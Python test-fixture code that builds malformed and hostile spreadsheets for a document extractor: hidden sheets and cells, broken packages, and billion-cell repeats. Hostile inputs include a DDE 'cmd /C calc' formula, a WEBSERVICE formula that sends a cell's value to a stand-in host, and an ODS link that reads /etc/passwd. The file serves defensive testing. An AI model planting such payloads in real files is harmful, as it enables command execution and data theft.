# SPDX-FileCopyrightText: The Lever Arch contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Spreadsheets, put together by hand: hidden sheets, rows and columns, and tables without end."""

from cfb import compound
from documents import ODF, OOXML, OVERRIDE, TYPES, odf, relations
from zips import pack

SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml."
S = ('xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
     'relationships"')


# Wide enough for a word: what does not fit into a cell beside a full one is not on the page.
WIDE = '<col min="1" max="3" width="24" customWidth="1"/>'
FIRST = WIDE.replace('max="3"', 'max="1"')


def cell(place, text):
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def rows(*texts):
    """One text a row, in column A."""
    return "".join(f'<row r="{i}">{cell(f"A{i}", text)}</row>' for i, text in enumerate(texts, 1))


def xlsx(sheets, before="", links=(), parts=(), kind="sheet.main+xml", leave_out=()):
    """`sheets` are (name, state, columns, rows as XML)."""
    overrides = OVERRIDE % ("/xl/workbook.xml", kind if "/" in kind else SHEET + kind)
    overrides += "".join(OVERRIDE % (f"/xl/worksheets/sheet{i}.xml", SHEET + "worksheet+xml") for i in range(1, len(sheets) + 1))
    overrides += "".join(OVERRIDE % ("/" + name, content) for name, content, _ in parts if content)
    listed = "".join(f'<sheet name="{name}" sheetId="{i}"{f" state={chr(34)}{state}{chr(34)}" if state else ""} r:id="rId{i}"/>'
                     for i, (name, state, _, _) in enumerate(sheets, 1))
    files = [("[Content_Types].xml", TYPES % overrides), ("_rels/.rels", relations([("rId1", "officeDocument", "xl/workbook.xml", False)])),
             ("xl/workbook.xml", f'<?xml version="1.0" encoding="UTF-8"?><workbook {S}>{before}<sheets>{listed}</sheets></workbook>'),
             ("xl/_rels/workbook.xml.rels", relations([(f"rId{i}", "worksheet", f"worksheets/sheet{i}.xml", False)
                                                       for i in range(1, len(sheets) + 1)] + list(links)))]
    for i, (_, _, columns, body) in enumerate(sheets, 1):
        files.append((f"xl/worksheets/sheet{i}.xml", f'<?xml version="1.0" encoding="UTF-8"?><worksheet {S}>'
                      f"<cols>{columns or WIDE}</cols><sheetData>{body}</sheetData></worksheet>"))
    files += [(name, data) for name, _, data in parts]
    return pack([(name, data) for name, data in files if name not in leave_out])


def add(shelf, name, build, why, source=OOXML, **holds):
    word = shelf.word()
    words = [] if holds.get("status") == "either" else [word]
    shelf.add(f"sheets/{name}", build(word), why, source, words=words + holds.pop("words", []), **holds)


def make(shelf):
    hidden(shelf)
    contents(shelf)
    outside(shelf)
    broken(shelf)
    open_documents(shelf)


def hidden(shelf):
    add(shelf, "plain.xlsx", lambda w: xlsx([("Staffing", "", "", rows(w))]), "one cell")
    for state in ("hidden", "veryHidden"):
        secret = shelf.word()
        add(shelf, f"{state}.xlsx", lambda w, st=state, se=secret: xlsx([("Staffing", "", "", rows(w)), ("Real figures", st, "", rows(se))]),
            f"a sheet whose state is {state}", notes=["HiddenSheet"], absent=[secret])
    add(shelf, "hidden rows.xlsx", lambda w: xlsx([("Staffing", "", "", rows(w) + f'<row r="2" hidden="1">{cell("A2", "hid")}</row>'
        f'<row r="3" hidden="1">{cell("A3", "hid")}</row>')]), "two hidden rows", notes=["HiddenRows"])
    add(shelf, "hidden columns.xlsx", lambda w: xlsx([("Staffing", "", FIRST + '<col min="2" max="4" hidden="1" width="0"/>',
        f'<row r="1">{cell("A1", w)}{cell("C1", "hid")}</row>')]), "three hidden columns", notes=["HiddenColumns"])
    add(shelf, "no height.xlsx", lambda w: xlsx([("Staffing", "", "", rows(w) + f'<row r="2" ht="0" customHeight="1">{cell("A2", "hid")}</row>')]),
        "a row of no height")
    add(shelf, "thin column.xlsx", lambda w: xlsx([("Staffing", "", FIRST + '<col min="2" max="2" width="0" customWidth="1"/>',
        f'<row r="1">{cell("A1", w)}{cell("B1", "hid")}</row>')]), "a column of no width")
    add(shelf, "filtered.xlsx", lambda w: xlsx([("Staffing", "", "", rows(w, "b") + '<row r="3" hidden="1">' + cell("A3", "filtered") + "</row>")]),
        "rows a filter has hidden", notes=["HiddenRows"])
    add(shelf, "all hidden.xlsx", lambda w: xlsx([("A", "hidden", "", rows(w)), ("B", "hidden", "", rows("b"))]), "nothing but hidden sheets",
        status="either", notes=[])


def contents(shelf):
    formula = '<row r="1">%s<c r="B1"><f>SUM(C1:C9)</f><v>42</v></c><c r="C1"><f>1/0</f><v></v></c></row>'
    add(shelf, "formulas.xlsx", lambda w: xlsx([("S", "", "", formula % cell("A1", w))]), "formulas, one without its last value", notes=["Formulas"])
    add(shelf, "1904.xlsx", lambda w: xlsx([("S", "", "", f'<row r="1">{cell("A1", w)}<c r="B1"><v>42475</v></c></row>')],
        '<workbookPr date1904="1"/>'), "dates counted from 1904", "ECMA-376 part 1, 18.17.4.1")
    add(shelf, "far corner.xlsx", lambda w: xlsx([("S", "", "", rows(w) + f'<row r="1048576">{cell("XFD1048576", "far")}</row>')]),
        "a cell in the last row and column there are", status="either")
    add(shelf, "3000 rows.xlsx", lambda w: xlsx([("S", "", "", rows(w, *(f"row {i}" for i in range(3_000))))]), "3,000 rows", slow=True)
    add(shelf, "30 sheets.xlsx", lambda w: xlsx([(f"S{i}", "", "", rows(w if i == 29 else f"sheet {i}")) for i in range(30)]), "30 sheets")
    add(shelf, "many columns.xlsx", lambda w: xlsx([("S", "", "", f'<row r="1">{cell("A1", w)}' + "".join(
        f'<c><v>{i}</v></c>' for i in range(300)) + "</row>")]), "301 columns, no cell but the first says where it is", status="either")
    add(shelf, "names.xlsx", lambda w: xlsx([("会议 &amp; &lt;b&gt; " + "x" * 20, "", "", rows(w))]), "a sheet with a name of every kind")
    add(shelf, "long cell.xlsx", lambda w: xlsx([("S", "", "", rows(w, "word " * 6_000))]), "a cell of 30,000 letters")
    add(shelf, "merged.xlsx", lambda w: xlsx([("S", "", "", rows(w) + "</sheetData><mergeCells><mergeCell ref=\"A1:XFD1048576\"/></mergeCells><sheetData>")]),
        "one cell over all the sheet", status="either")
    strings = f'<?xml version="1.0"?><sst {S} count="1" uniqueCount="1"><si><t>shared</t></si></sst>'
    add(shelf, "bad string.xlsx", lambda w: xlsx([("S", "", "", rows(w) + '<row r="2"><c r="A2" t="s"><v>999999999</v></c><c r="B2" t="s"><v>-1</v></c></row>')],
        links=[("rId90", "sharedStrings", "sharedStrings.xml", False)], parts=[("xl/sharedStrings.xml", SHEET + "sharedStrings+xml", strings)]),
        "cells that name texts there are not")


def outside(shelf):
    macro = ("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", compound({"dir": b"\x02" * 40}))
    add(shelf, "macros.xlsm", lambda w: xlsx([("S", "", "", rows(w))], links=[("rId91", "../../../../office/2006/relationships/vbaProject",
        "vbaProject.bin", False)], parts=[macro], kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macros", notes=["Macros"])
    book = f'<?xml version="1.0"?><externalLink {S}><externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>'
    add(shelf, "outside book.xlsx", lambda w: xlsx([("S", "", "", rows(w))], links=[("rId92", "externalLink", "externalLinks/externalLink1.xml", False)],
        parts=[("xl/externalLinks/externalLink1.xml", SHEET + "externalLink+xml", book), ("xl/externalLinks/_rels/externalLink1.xml.rels", "",
        relations([("rId1", "externalLinkPath", "file://example.invalid/share/pay.xlsx", True)]))]), "figures that lie in another book",
        notes=["ExternalLinks"])
    add(shelf, "dde.xlsx", lambda w: xlsx([("S", "", "", f'<row r="1">{cell("A1", w)}<c r="B1"><f>cmd|\'/C calc\'!A0</f><v>0</v></c></row>')]),
        "a formula that wants a program", "OWASP: CSV injection")
    add(shelf, "webservice.xlsx", lambda w: xlsx([("S", "", "", f'<row r="1">{cell("A1", w)}<c r="B1"><f>WEBSERVICE("http://example.invalid/?"&amp;A1)</f>'
        "<v>0</v></c></row>")]), "a formula that asks the web", "ECMA-376; WEBSERVICE")


def broken(shelf):
    either = {"status": "either"}
    add(shelf, "no sheet.xlsx", lambda w: xlsx([("S", "", "", rows(w))], leave_out=["xl/worksheets/sheet1.xml"]), "its only sheet is missing", **either)
    add(shelf, "one sheet missing.xlsx", lambda w: xlsx([("A", "", "", rows(w)), ("B", "", "", rows("b"))], leave_out=["xl/worksheets/sheet2.xml"]),
        "one of two sheets is missing", **either)
    add(shelf, "no workbook.xlsx", lambda w: xlsx([("S", "", "", rows(w))], leave_out=["xl/workbook.xml"]), "its book is missing", **either)
    add(shelf, "bad places.xlsx", lambda w: xlsx([("S", "", "", f'<row r="0">{cell("A0", w)}</row><row r="-5">{cell("ZZZZZZ99", "x")}</row><row r="9999999999">'
        f'{cell("9A", "y")}</row>')]), "cells in places there are not", **either)
    add(shelf, "cut.xlsx", lambda w: xlsx([("S", "", "", rows(w))])[:600], "breaks off", **either)
    add(shelf, "binary.xlsb", lambda w: pack([("[Content_Types].xml", TYPES % (OVERRIDE % ("/xl/workbook.bin", "application/vnd.ms-excel.sheet.binary."
        "macroEnabled.main"))), ("xl/workbook.bin", b"\x83\x01\0" + w.encode())]), "the binary kind of new spreadsheet", "MS-XLSB", inside_count=[0, 2],
        **either)


def ods(body):
    return odf("spreadsheet", '<office:automatic-styles><style:style style:name="off" style:family="table"><style:table-properties table:display="false"/>'
               f"</style:style></office:automatic-styles><office:body><office:spreadsheet>{body}</office:spreadsheet></office:body>")


def odf_cell(text):
    return f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>'


def table(name, body, style=""):
    return f'<table:table table:name="{name}"{style}>{body}</table:table>'


def open_documents(shelf):
    row = "<table:table-row%s>%s</table:table-row>"
    add(shelf, "plain.ods", lambda w: ods(table("S", row % ("", odf_cell(w)))), "one cell", ODF)
    secret = shelf.word()
    add(shelf, "hidden.ods", lambda w: ods(table("S", row % ("", odf_cell(w))) + table("Real", row % ("", odf_cell(secret)), ' table:style-name="off"')),
        "a hidden sheet", ODF, notes=["HiddenSheet"], absent=[secret])
    add(shelf, "hidden rows.ods", lambda w: ods(table("S", row % ("", odf_cell(w)) + row % (' table:visibility="collapse"', odf_cell("hid")))),
        "a hidden row", ODF, notes=["HiddenRows"])
    add(shelf, "hidden columns.ods", lambda w: ods(table("S", '<table:table-column/><table:table-column table:visibility="collapse"/>'
        + row % ("", odf_cell(w) + odf_cell("hid")))), "a hidden column", ODF, notes=["HiddenColumns"])
    add(shelf, "repeated columns.ods", lambda w: ods(table("S", row % ("", odf_cell(w) + '<table:table-cell table:number-columns-repeated="1000000000"/>'))),
        "an empty cell a thousand million times", ODF)
    add(shelf, "repeated rows.ods", lambda w: ods(table("S", row % ("", odf_cell(w)) + row % (' table:number-rows-repeated="1048575"', "<table:table-cell/>"))),
        "an empty row to the end of the sheet, as LibreOffice writes it", ODF)
    add(shelf, "repeated full.ods", lambda w: ods(table("S", row % ("", odf_cell(w)) + row % (' table:number-rows-repeated="1000000"',
        '<table:table-cell table:number-columns-repeated="1000" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>'))),
        "a full cell a thousand million times", ODF, status="either", slow=True)
    add(shelf, "outside.ods", lambda w: ods(table("S", '<table:table-source xlink:href="file:///etc/passwd" table:filter-name="Text"/>' + row % ("", odf_cell(w)))),
        "a sheet that wants a file of the computer", ODF, absent=["root:x:0"], notes=["ExternalLinks"])
